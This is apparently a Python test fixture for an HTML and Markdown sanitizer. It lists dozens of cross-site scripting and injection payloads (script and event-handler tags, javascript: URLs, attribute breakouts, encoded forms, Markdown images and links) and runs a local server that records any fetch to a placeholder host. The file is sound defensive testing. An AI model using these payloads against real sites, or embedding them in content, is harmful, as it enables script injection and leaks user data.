"""Words that try to run script in the page, or to have it fetch something from elsewhere.

Each form is one of those that got past a sanitizer somewhere: markup in its many spellings,
Markdown that becomes an image or a link, URLs that are code, text that breaks out of an attribute,
a template or a string of JSON. `EVIL` stands for an address that counts who comes; `RAN` for a call
that leaves a mark in the page.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

FORMS = (
    # Script, and what runs it.
    "<script>RAN</script>",
    "<SCRIPT SRC=EVIL></SCRIPT>",
    "<scr<script>ipt>RAN</scr</script>ipt>",
    "<img src=x onerror=RAN>",
    '<img src="x" onerror="RAN">',
    "<img/src='x'/onerror=RAN>",
    "<svg onload=RAN>",
    "<svg><script>RAN</script></svg>",
    "<svg><animate onbegin=RAN attributeName=x dur=1s>",
    "<details open ontoggle=RAN>x</details>",
    "<body onload=RAN>",
    "<input autofocus onfocus=RAN>",
    "<video><source onerror=RAN></video>",
    "<marquee onstart=RAN>x</marquee>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=RAN>'>",
    "<iframe srcdoc='<script>parent.RAN</script>'></iframe>",
    '<iframe src="javascript:parent.RAN"></iframe>',
    '<object data="javascript:RAN"></object>',
    '<embed src="javascript:RAN">',
    '<a href="javascript:RAN" autofocus onfocus=RAN>read more</a>',
    '<a href=" &#106;avascript:RAN">read more</a>',
    '<form><button formaction="javascript:RAN" autofocus onfocus=RAN>x</button></form>',
    "<style>*{animation:x}@keyframes x{}</style><b onanimationstart=RAN>x</b>",
    "<template><script>RAN</script></template><p is=x onclick=RAN>",
    # Out of an attribute, a string, a comment, a template.
    '" onmouseover="RAN" x="',
    "' autofocus onfocus='RAN' x='",
    '"><img src=x onerror=RAN>',
    "</textarea></title></style></script><script>RAN</script>",
    "--><img src=x onerror=RAN><!--",
    "]]><script>RAN</script>",
    "{{constructor.constructor('RAN')()}}",
    "${RAN}",
    "\\u003cscript\\u003eRAN\\u003c/script\\u003e",
    "&lt;img src=x onerror=RAN&gt;",
    "%3Cscript%3ERAN%3C/script%3E",
    "\u202e<img src=x onerror=RAN>\u202c",
    "<\x00img src=x onerror=RAN>",
    # Fetching from elsewhere.
    "<img src=EVIL>",
    "<img srcset='EVIL 1x'>",
    "<picture><source srcset=EVIL><img></picture>",
    '<div style="background:url(EVIL)">x</div>',
    "<style>@import 'EVIL';</style>",
    "<link rel=stylesheet href=EVIL>",
    "<link rel=preload as=image href=EVIL>",
    "<link rel=dns-prefetch href=EVIL>",
    "<meta http-equiv=refresh content='0;url=EVIL'>",
    "<base href=EVIL>",
    "<video poster=EVIL></video>",
    "<audio src=EVIL autoplay></audio>",
    "<svg><image href=EVIL /></svg>",
    "<svg><use href='EVIL#x'/></svg>",
    "<table background=EVIL><tr><td>x</table>",
    "<iframe src=EVIL></iframe>",
    "<object data=EVIL></object>",
    "<form action=EVIL><input name=q value=secret autofocus onfocus=form.submit()></form>",
    "<a ping=EVIL href=EVIL>read more</a>",
    # Markdown that becomes markup.
    "![x](EVIL)",
    "![x][1]\n\n[1]: EVIL",
    "[read more](javascript:RAN)",
    "[x](<javascript:RAN>)",
    "<EVIL>",
    "[![x](EVIL)](EVIL)",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "$$\\href{javascript:RAN}{x}$$ \\(\\includegraphics{EVIL}\\)",
    "```mermaid\ngraph TD; A[<img src=EVIL>]\n```",
)


@dataclass(slots=True)
class Elsewhere:
    """A server that nothing on the page may come to.

    Attributes:
        came: the paths that were asked for.
    """

    url: str
    came: list[str] = field(default_factory=list)

    def payloads(self) -> tuple[str, ...]:
        """Each form, with a number of its own in what it calls or fetches."""
        return tuple(
            form.replace("EVIL", f"{self.url}/leak-{number}").replace("RAN", f"ran({number})")
            for number, form in enumerate(FORMS)
        )


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    """Such a server, on a free port of this machine."""
    place = Elsewhere("")

    class Counting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            place.came.append(self.path)
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counting) as server:
        place.url = f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield place
        finally:
            server.shutdown()
            thread.join()
